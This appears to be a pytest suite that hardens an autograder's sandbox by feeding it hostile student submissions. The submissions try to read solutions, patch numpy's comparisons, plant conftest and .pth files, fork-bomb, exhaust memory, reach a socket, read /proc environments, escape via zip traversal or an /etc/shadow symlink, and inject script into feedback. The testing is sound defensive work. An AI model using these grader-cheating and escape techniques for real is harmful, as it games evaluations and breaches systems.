"""Hostile submissions, graded end to end.

Each attack is a submission whose activations.py (or whose folder) tries to cheat,
spy, escape or break the grader. For each one we assert that:
- every test scores exactly what the honest part of the submission earns: the same
  file with the hostile function replaced by a stub that raises, or with the hostile
  import-time code left out (or no file at all, when that code kills the import);
- the feedback says what happened;
- nothing outside the sandbox changed: the course, the results folder, other
  submissions, the host's /tmp, and no process of a sandbox uid is left running;
- a correct submission graded right after still gets full marks.
"""
from __future__ import annotations

import fcntl
import hashlib
import html
import json
import os
import re
import socket
import threading
import zipfile
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path
from typing import Callable

import pytest

from autograder import cli
from autograder.grading.runner import grade
from autograder.render import feedback
from autograder.results.model import SubmissionResult
from autograder.sandbox import isolation
from autograder.sandbox.worker import Limits
from autograder.submission.discover import Submission
from conftest import COURSE, ROOT, SOLUTIONS, eventually

pytestmark = pytest.mark.skipif(not isolation.detect().full,
                                reason=f"needs the full sandbox: {isolation.detect().describe()}")

LIMITS = Limits(call_seconds=3, import_seconds=10, total_seconds=60, wall_factor=1, wall_slack=2)  # backstop 5 s
REFERENCE = (SOLUTIONS / "activations.py").read_text()
RELU = "def relu(z):\n    return np.maximum(0.0, z)\n"
STUB = "def relu(z):\n    raise NotImplementedError\n"
WRONG = "def relu(z):\n    return np.zeros_like(z)\n"  # wrong values, inputs untouched
NO_FILE = None  # the honest part is nothing at all
REPORT = re.compile(r"REPORT (\{.*?\}) END")
SECRET_ENV = "AUTOGRADER_TEST_SECRET"


def with_relu(body: str, prelude: str = "") -> str:
    """The reference activations.py with relu replaced by a hostile one."""
    assert RELU in REFERENCE
    return prelude + REFERENCE.replace(RELU, "def relu(z):\n" + body)


def reporting(code: str, prelude: str = "") -> str:
    """A relu that gathers `found` (a JSON-able dict) and raises it back, the one channel
    a student has to the feedback; what it reports is what the sandbox let it see."""
    body = "    import json\n    found = {}\n" + code + "    raise RuntimeError('REPORT ' + json.dumps(found) + ' END')\n"
    return with_relu(body, prelude)


@dataclass
class Attack:
    name: str
    files: dict[str, str | Callable[[World], str]]  # the submission's files (some written for the world they
    # attack: its paths and ports); a zip is built when `zipped`
    honest: str | None  # the activations.py that earns exactly what the attack should
    says: str  # a sentence (regex) some test's feedback or a note must contain
    zipped: bool = False
    check: object = None  # called with (result, world) for extra assertions
    links: dict[str, str] = field(default_factory=dict)  # name -> target of symbolic links in the folder
    limits: Limits | None = None  # instead of LIMITS, for an attack whose honest work takes long on a busy machine


def honest_stub() -> str:
    return REFERENCE.replace(RELU, STUB)


def honest_wrong() -> str:
    return REFERENCE.replace(RELU, WRONG)


def sees_nothing_of_the_course(result, world):
    found = report_of(result)
    assert found["readable"] == [] and found["listed"] == [], found


def walks_only_its_own_files(result, world):
    found = report_of(result)
    assert found["hits"] == [], found
    python = {Path(p).parts[1] for p in isolation.python_binds()}
    assert set(found["top"]) <= {"bin", "dev", "etc", "lib", "lib32", "lib64", "opt", "proc", "sbin",
                                 "submission", "tmp", "usr"} | python, found


def imports_nothing_of_the_grader(result, world):
    assert report_of(result) == {"autograder": "ModuleNotFoundError", "solutions": "ModuleNotFoundError",
                                 "graders": "ModuleNotFoundError", "test_activations": "ModuleNotFoundError"}


def sees_no_secrets(result, world):
    found = report_of(result)
    assert SECRET_ENV not in found["env"] and "secret-value" not in json.dumps(found)
    assert found["pids"] and max(found["pids"]) < 50, found  # a PID namespace of its own
    assert not any("pytest" in c or str(ROOT) + "/solutions" in c for c in found["cmdlines"]), found
    assert found["uid"] not in (0, os.getuid()), found
    assert found["nonewprivs"] == "1" and found["capeff"] == "0000000000000000", found


def network_is_unreachable(result, world):
    found = report_of(result)
    assert found["interfaces"] in ([], ["lo"]), found
    assert found["connect"] != "connected", found
    assert world.listener.received == [], world.listener.received


def files_stay_small(result, world):
    found = report_of(result)
    assert found["big"] <= 128 << 20 and found["files"] <= 20_000, found
    assert found["big_error"] and found["files_error"], found


def other_submission_untouched(result, world):
    found = report_of(result)
    assert found["victim"].startswith("FileNotFoundError") or found["victim"].startswith("PermissionError"), found


def results_untouched(result, world):
    found = report_of(result)
    assert found["own"] == "written", found  # its own folder is writable ...
    assert not found["real"].startswith("written"), found  # ... the real results are not there
    assert not (world.submissions / "results.json").exists()


def messages_are_safe(result, world):
    text = feedback.text(result)
    page = feedback.html(result)
    line = result.to_json()
    for rendered in (text, page, line):
        assert "\x1b" not in rendered and "\x00" not in rendered
        rendered.encode("utf-8")  # valid UTF-8: no lone surrogates
    assert "<script>" not in page and html.escape("<script>") in page
    assert len(line) < 100_000, len(line)


def writes_results(world: World) -> str:
    return reporting(f"""
    import os
    open('results.json', 'w').write('{{"score": 50}}')
    found['own'] = 'written'
    try:
        open({str(world.results / "results.jsonl")!r}, 'a').write('{{"submission": "attacker", "score": 50}}\\n')
        found['real'] = 'written'
    except OSError as exc:
        found['real'] = type(exc).__name__
""")


def connects(world: World) -> str:
    return reporting(f"""
    import socket
    found['interfaces'] = sorted(n for _, n in socket.if_nameindex())
    try:
        with socket.create_connection(('127.0.0.1', {world.listener.port}), timeout=1) as conn:
            conn.sendall(b'stolen answers')
        found['connect'] = 'connected'
    except OSError as exc:
        found['connect'] = type(exc).__name__ + ': ' + str(exc.strerror)
""")


def writes_victim(world: World) -> str:
    return reporting(f"""
    try:
        open({str(world.victim / "activations.py")!r}, 'w').write('def sigmoid(z):\\n    return 0\\n')
        found['victim'] = 'written'
    except OSError as exc:
        found['victim'] = type(exc).__name__
""")


ATTACKS = [
    Attack("reads solutions and hidden tests by path", {"activations.py": reporting(f"""
    import os
    found['readable'], found['listed'] = [], []
    for path in {[str(ROOT / p) for p in ("solutions/activations.py", "graders/test_activations.py",
                                           "assignments/activations/test_activations.py")]!r}:
        try:
            open(path).read()
            found['readable'].append(path)
        except OSError:
            pass
    for folder in {[str(ROOT), str(ROOT / "solutions"), str(ROOT / "graders")]!r}:
        try:
            if set(os.listdir(folder)) - {{'.venv'}}:
                found['listed'].append(folder)
        except OSError:
            pass
""")}, honest_stub(), r"relu raised RuntimeError: REPORT", check=sees_nothing_of_the_course),
    Attack("walks the whole disk for solutions and graders", {"activations.py": reporting("""
    import os
    found['hits'], found['top'] = [], sorted(os.listdir('/'))
    for folder, dirs, files in os.walk('/'):
        dirs[:] = [d for d in dirs if not (folder == '/' and d in ('proc', 'sys', 'dev'))]
        for name in dirs + files:
            path = os.path.join(folder, name)
            if name in ('solutions', 'graders', 'test_activations.py', 'results.jsonl', 'gradebook.csv'):
                found['hits'].append(path)
            elif name == 'activations.py' and folder != os.getcwd() and 'def relu_grad' in open(path).read():
                found['hits'].append(path)
""")}, honest_stub(), r"REPORT", check=walks_only_its_own_files,
           # a walk of all the sandbox shows (/usr, the Python installation) is seconds of system calls
           # on a busy machine: its verdict must not depend on how busy
           limits=Limits(call_seconds=60, import_seconds=10, total_seconds=600, wall_factor=2, wall_slack=30)),
    Attack("imports the grader and the solutions", {"activations.py": reporting("""
    import importlib
    for name in ('autograder', 'solutions', 'graders', 'test_activations'):
        try:
            importlib.import_module(name)
            found[name] = 'imported'
        except BaseException as exc:
            found[name] = type(exc).__name__
""")}, honest_stub(), r"REPORT", check=imports_nothing_of_the_grader),
    Attack("hunts for expected values with gc, inspect.stack and sys._getframe", {"activations.py": with_relu("""
    import gc, inspect, sys
    import numpy as np
    candidates = [o for o in gc.get_objects() if type(o) is np.ndarray and o.shape == np.shape(z) and o is not z]
    for info in inspect.stack():
        candidates += [v for v in info.frame.f_locals.values() if type(v) is np.ndarray and v.shape == np.shape(z)]
    frame = sys._getframe()
    while frame is not None:
        candidates += [v for k, v in frame.f_locals.items() if 'expect' in k]
        frame = frame.f_back
    for c in candidates:
        if c is not z and not np.array_equal(c, z):
            return c
    return np.zeros_like(z)
""")}, honest_wrong(), r"relu"),
    Attack("returns an object whose __eq__ and __array_function__ always agree", {"activations.py": with_relu("""
    class Agree:
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __array_function__(self, *a, **k): return True
        def __array_ufunc__(self, *a, **k): return True
        def __bool__(self): return True
    return Agree()
""")}, honest_wrong(), r"relu\(.*\) is an? .*Agree"),
    Attack("returns an ndarray subclass that always compares equal", {"activations.py": with_relu("""
    import numpy as np
    class Always(np.ndarray):
        def __eq__(self, other): return True
        def __array_function__(self, *a, **k): return True
    return np.zeros(np.shape(z)).view(Always)
""")}, honest_wrong(), r"Always"),
    Attack("patches numpy.allclose, numpy.testing, pytest and unittest at import", {"activations.py": with_relu(
        "    return z\n", prelude="""
import numpy, numpy.testing, unittest
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
unittest.TestCase.assertEqual = lambda *a, **k: None
try:
    import pytest
    pytest.approx = lambda *a, **k: object()
except ImportError:
    pass
""")}, REFERENCE.replace(RELU, "def relu(z):\n    return z\n"), r"relu"),
    Attack("ships conftest.py, sitecustomize.py, a .pth file and numpy.py", {
        "activations.py": REFERENCE,
        "conftest.py": "open('/tmp/autograder-pwned-conftest', 'w').close()\nraise SystemExit(0)\n",
        "sitecustomize.py": "open('/tmp/autograder-pwned-sitecustomize', 'w').close()\n",
        "evil.pth": "import os; open('/tmp/autograder-pwned-pth', 'w').close()\n",
        "numpy.py": "raise ImportError('the real numpy was shadowed')\n",
    }, REFERENCE, r"these were not used: conftest.py, evil.pth, numpy.py, sitecustomize.py", check=lambda result, world: [
        not Path(f"/tmp/autograder-pwned-{n}").exists() or pytest.fail(n) for n in ("conftest", "sitecustomize", "pth")]),
    Attack("calls sys.exit(0) at import", {"activations.py": "import sys\nsys.exit(0)\n" + REFERENCE}, NO_FILE,
           r"could not be imported: SystemExit"),
    Attack("calls os._exit(0) at import", {"activations.py": "import os\nos._exit(0)\n" + REFERENCE}, NO_FILE,
           r"ended abruptly \(exit status 0"),
    Attack("calls sys.exit(0) mid-test", {"activations.py": with_relu("    import sys\n    sys.exit(0)\n")},
           honest_stub(), r"relu raised SystemExit"),
    Attack("calls os._exit(0) mid-test", {"activations.py": with_relu("    import os\n    os._exit(0)\n")},
           honest_stub(), r"ended abruptly \(exit status 0"),
    Attack("raises BaseException subclasses", {"activations.py": with_relu(
        "    raise KeyboardInterrupt('stop grading')\n", prelude="class Escape(BaseException):\n    pass\n")
        .replace("def tanh_grad(z):\n", "def tanh_grad(z):\n    raise Escape('out')\n")
        .replace("def relu_grad(z):\n", "def relu_grad(z):\n    raise GeneratorExit()\n")},
        honest_stub().replace("def tanh_grad(z):\n", "def tanh_grad(z):\n    raise NotImplementedError\n")
        .replace("def relu_grad(z):\n", "def relu_grad(z):\n    raise NotImplementedError\n"),
        r"relu raised KeyboardInterrupt: stop grading"),
    Attack("prints fake PASSED lines and a fake results JSON", {"activations.py": with_relu("""
    import json
    print('PASSED test_relu 10/10')
    print(json.dumps({'submission': 'x', 'score': 50.0, 'max_score': 50.0}))
    return z
""", prelude="print('===== 11 passed =====')\n")}, REFERENCE.replace(RELU, "def relu(z):\n    return z\n"), r"relu"),
    Attack("writes results.json into its folder and tries the real results path", {"activations.py": writes_results}, honest_stub(),
           r"REPORT", check=results_untouched),
    Attack("loops forever", {"activations.py": with_relu("    while True:\n        pass\n")}, honest_stub(),
           r"relu did not return within 3 s of CPU time"),
    Attack("sleeps forever", {"activations.py": with_relu("    import time\n    time.sleep(10 ** 6)\n")},
           honest_stub(), r"relu did not return within 5 s and was stopped\. Code that waits"),
    Attack("waits for input()", {"activations.py": with_relu("    return input('answer? ')\n")}, honest_stub(),
           r"relu raised EOFError"),
    Attack("fork bomb", {"activations.py": with_relu("    import os\n    while True:\n        os.fork()\n")},
           honest_stub(), r"relu raised BlockingIOError|relu did not return within \d s"),  # as fast as forks go
    Attack("allocates 100 GB at once", {"activations.py": with_relu("    import numpy as np\n    return np.ones(100 * 2 ** 30 // 8)\n")},
           honest_stub(), r"ran out of memory.*relu raised MemoryError"),
    Attack("allocates memory until it runs out", {"activations.py": with_relu(
        "    import numpy as np\n    keep = []\n    while True:\n        keep.append(np.empty(2 ** 27))\n")},
        honest_stub(), r"relu raised MemoryError"),
    Attack("prints 1 GB", {"activations.py": with_relu(
        "    import sys\n    for _ in range(100):\n        sys.stdout.write('x' * 10 ** 7)\n    raise ValueError('done printing')\n")},
        honest_stub(), r"relu raised ValueError: done printing|relu did not return within \d s"),  # as fast as the pipe
    Attack("writes a 10 GB file and a million small files", {"activations.py": reporting("""
    import os
    found['big'] = 0
    try:
        with open('big.bin', 'wb') as out:
            for _ in range(10 * 1024):
                out.write(b'x' * (1 << 20))
                found['big'] += 1 << 20
        found['big_error'] = ''
    except OSError as exc:
        found['big_error'] = type(exc).__name__ + ': ' + str(exc.strerror)
    os.remove('big.bin')
    found['files'] = 0
    try:
        os.mkdir('many')
        for i in range(10 ** 6):
            open(f'many/{i}', 'w').close()
            found['files'] += 1
        found['files_error'] = ''
    except OSError as exc:
        found['files_error'] = type(exc).__name__ + ': ' + str(exc.strerror)
""")}, honest_stub(), r"REPORT", check=files_stay_small),
    Attack("opens a TCP socket and lists the network interfaces", {"activations.py": connects}, honest_stub(), r"REPORT",
           check=network_is_unreachable),
    Attack("reads os.environ, /proc/*/cmdline and /proc/1/environ", {"activations.py": reporting("""
    import os
    found['env'] = sorted(os.environ)
    found['pids'] = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())
    found['cmdlines'] = []
    for pid in found['pids']:
        try:
            found['cmdlines'].append(open(f'/proc/{pid}/cmdline', 'rb').read().decode(errors='replace'))
        except OSError:
            pass
    try:
        found['environ1'] = open('/proc/1/environ', 'rb').read().decode(errors='replace')
    except OSError as exc:
        found['environ1'] = type(exc).__name__
    found['uid'] = os.getuid()
    status = dict(line.split(':', 1) for line in open('/proc/self/status'))
    found['nonewprivs'], found['capeff'] = status['NoNewPrivs'].strip(), status['CapEff'].strip()
""")}, honest_stub(), r"REPORT", check=sees_no_secrets),
    Attack("writes into another submission's folder", {"activations.py": writes_victim}, honest_stub(), r"REPORT",
           check=other_submission_untouched),
    Attack("a zip with ../ paths and a symlink to /etc/shadow", {
        "../../escaped.py": "print('escaped')\n", "activations.py": "@symlink:/etc/shadow"}, NO_FILE,
        r"points outside the submission and was skipped", zipped=True,
        check=lambda result, world: (not (world.root / "escaped.py").exists()
                                     or pytest.fail("a ../ entry was written outside")) and
        ("is a symbolic link and was skipped" in " ".join(result.notes) or pytest.fail(result.notes))),
    Attack("a folder whose activations.py links to the reference solution", {}, NO_FILE,
           r"activations.py is a symbolic link; links are not followed",
           links={"activations.py": str(SOLUTIONS / "activations.py")}),
    Attack("error messages with HTML, ANSI escapes, NUL bytes, invalid UTF-8 and 10 MB of text",
           {"activations.py": with_relu(
               "    raise ValueError('<script>alert(1)</script> \\x1b[31mred\\x1b[0m nul\\x00 '"
               " + b'\\xff\\xfe'.decode('utf-8', 'surrogateescape') + 'x' * 10 ** 7)\n")},
           honest_stub(), r"relu raised ValueError: <script>", check=messages_are_safe),
]


class Listener:
    """A TCP server on 127.0.0.1 that records every connection and byte it receives."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(65536) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.server.close()


@dataclass
class World:
    """Everything outside the sandbox that an attack might reach."""

    root: Path
    submissions: Path
    results: Path
    victim: Path
    listener: Listener

    def snapshot(self) -> dict[str, str]:
        trees = [ROOT / "solutions", ROOT / "graders", ROOT / "assignments", ROOT / "autograder", self.results,
                 self.victim]
        out = {}
        for tree in trees:
            for path in sorted(tree.rglob("*")):
                if path.is_file() and "__pycache__" not in path.parts:
                    out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
        out["/tmp (sandbox-owned)"] = ",".join(sorted(
            p.name for p in Path("/tmp").iterdir() if _owned_by_sandbox(p)))
        return out


def _owned_by_sandbox(path: Path) -> bool:
    try:
        uid = path.lstat().st_uid
    except OSError:
        return False
    return isolation.UID_BASE <= uid < isolation.UID_BASE + isolation.UID_SLOTS


def leftover_processes() -> list[str]:
    """Processes of sandbox uids that no live sandbox holds (other tests' sandboxes may be running),
    after waiting up to 3 s for a killed namespace to clear."""
    def leftovers() -> list[str]:
        return [f"{pid}: uid {uid} {name}" for uid, pid, name in _sandbox_processes() if not _slot_is_held(uid)]

    eventually(lambda: not leftovers())
    return leftovers()


def _sandbox_processes() -> list[tuple[int, str, str]]:
    found = []
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            fields = dict(line.split(":", 1) for line in status.read_text().splitlines() if ":" in line)
        except OSError:
            continue
        uid = int(fields.get("Uid", "0").split()[0])
        if isolation.UID_BASE <= uid < isolation.UID_BASE + isolation.UID_SLOTS:
            found.append((uid, status.parent.name, fields.get("Name", "").strip()))
    return found


def _slot_is_held(uid: int) -> bool:
    lock = isolation.SLOT_FOLDER / str(uid)
    with open(lock, "a") as handle:
        try:
            fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            return True
        fcntl.flock(handle, fcntl.LOCK_UN)
        return False


@pytest.fixture
def world(tmp_path, monkeypatch):
    monkeypatch.setenv(SECRET_ENV, "secret-value")
    root = tmp_path / "world"
    results = root / "results"
    results.mkdir(parents=True)
    (results / "results.jsonl").write_text('{"submission": "earlier", "score": 1.0}\n')
    (results / "gradebook.csv").write_text("submission,total\nearlier,1\n")
    victim = root / "submissions" / "victim"
    victim.mkdir(parents=True)
    (victim / "activations.py").write_text(REFERENCE)
    listener = Listener()
    yield World(root, root / "submissions", results, victim, listener)
    listener.close()


def build(attack: Attack, world: World) -> Path:
    """The attack as a submission in the world's submissions folder (a zip when asked)."""
    files = {name: text(world) if callable(text) else text for name, text in attack.files.items()}
    folder = world.submissions / "attacker"
    if attack.zipped:
        archive = world.submissions / "attacker.zip"
        with zipfile.ZipFile(archive, "w") as zf:
            for name, text in files.items():
                if text.startswith("@symlink:"):
                    info = zipfile.ZipInfo(name)
                    info.external_attr = (0o120777 << 16)
                    zf.writestr(info, text.removeprefix("@symlink:"))
                else:
                    zf.writestr(name, text)
        return archive
    folder.mkdir()
    for name, text in files.items():
        (folder / name).write_text(text)
    for name, target in attack.links.items():
        (folder / name).symlink_to(target)
    return folder


def report_of(result: SubmissionResult) -> dict:
    for test in result.tests:
        match = REPORT.search(test.feedback)
        if match:
            return json.loads(match.group(1))
    raise AssertionError("no test's feedback holds the attack's report")


@lru_cache(maxsize=None)
def honest_scores(source: str | None, tmp: str) -> dict[str, float]:
    folder = Path(tmp) / f"honest-{hashlib.sha256(str(source).encode()).hexdigest()[:12]}"
    folder.mkdir(parents=True, exist_ok=True)
    if source is not None:
        (folder / "activations.py").write_text(source)
    result = grade(Submission(id="honest", path=folder), COURSE, ["activations"], limits=LIMITS)
    return {t.name: t.score for t in result.tests}


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_earns_only_the_honest_part(attack, world, tmp_path_factory, start):
    """Cold (a new interpreter per child) and warm (children forked by one fork server, as in
    batch grading, where the correct submission graded next comes from the same server)."""
    before = world.snapshot()
    result = grade(Submission.from_path(build(attack, world)), COURSE, ["activations"],
                   limits=attack.limits or LIMITS, warm=start)

    expected = honest_scores(attack.honest, str(tmp_path_factory.getbasetemp() / "honest"))
    assert {t.name: t.score for t in result.tests} == expected
    said = [t.feedback for t in result.tests if t.status != "passed"] + result.notes
    assert any(re.search(attack.says, text, re.S) for text in said), said
    if attack.check is not None:
        attack.check(result, world)

    assert world.snapshot() == before
    assert leftover_processes() == []
    correct = grade(Submission.from_path(world.victim), COURSE, ["activations"], limits=LIMITS, warm=start)
    assert correct.score == correct.max_score == 10.0


def test_a_batch_goes_on_past_hostile_submissions(world, capsys):
    """`autograder grade --json` over crashing, flooding and lying submissions: every one is
    graded, standard output holds only the real results, and the correct one gets full marks."""
    chosen = {"calls os._exit(0) at import", "prints fake PASSED lines and a fake results JSON", "fork bomb",
              "ships conftest.py, sitecustomize.py, a .pth file and numpy.py", "writes into another submission's folder"}
    victim_before = world.snapshot()
    paths = []
    for i, attack in enumerate(a for a in ATTACKS if a.name in chosen):
        path = build(attack, world)
        paths.append(str(path.rename(path.with_name(f"attacker{i}"))))
    paths.append(str(world.victim))
    out = world.root / "grades"
    code = cli.main(["grade", *paths, "--assignment", "activations", "--out", str(out), "--json"])
    lines = capsys.readouterr().out.splitlines()
    assert code == 0
    results = [json.loads(line) for line in lines]
    assert [r["submission"] for r in results] == [Path(p).name for p in paths]
    assert results[-1]["assignments"]["activations"]["score"] == 10.0
    assert {k: v for k, v in world.snapshot().items() if str(world.victim) in k} == {
        k: v for k, v in victim_before.items() if str(world.victim) in k}
    assert leftover_processes() == []


def test_grading_refuses_weak_isolation_unless_allowed(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("AUTOGRADER_SANDBOX_LEVEL", "uid")
    isolation.detect.cache_clear()
    try:
        args = ["grade", str(SOLUTIONS), "--assignment", "activations", "--out", str(tmp_path)]
        assert cli.main(args) == cli.EXIT_GRADER
        assert "cannot sandbox student code fully" in capsys.readouterr().err
        assert not (tmp_path / "results.jsonl").exists()
        assert cli.main([*args, "--allow-weak-sandbox"]) == 0
        warning = capsys.readouterr().err
        assert "Warning: student code runs as its own unprivileged user" in warning
        if ROOT.stat().st_mode & 0o005:
            assert f"It could read {ROOT}: run chmod -R o-rwx" in " ".join(warning.split())
    finally:
        monkeypatch.delenv("AUTOGRADER_SANDBOX_LEVEL")
        isolation.detect.cache_clear()


def test_readme_states_the_number_of_attacks_and_the_limits():
    readme = " ".join((ROOT / "README.md").read_text().split())
    assert f"`tests/test_adversarial.py` grades {len(ATTACKS)} attacks" in readme
    limits = Limits()
    assert f"CPU time per call ({limits.call_seconds:g} s; {limits.import_seconds:g} s for an import)" in readme
    assert (f"a wall-clock backstop of {limits.wall_factor:g} times that plus {limits.wall_slack:g} s for code that "
            f"waits; wall clock per submission ({limits.total_seconds:g} s); CPU {limits.cpu_seconds} s in all") in readme
    assert f"`RLIMIT_DATA` {limits.memory_bytes >> 30} GB" in readme
    assert f"{limits.max_processes} processes and threads; {limits.max_open_files} open files" in readme
    assert f"{limits.max_file_bytes >> 20} MB per file" in readme and f"({limits.disk_bytes >> 20} MB" in readme
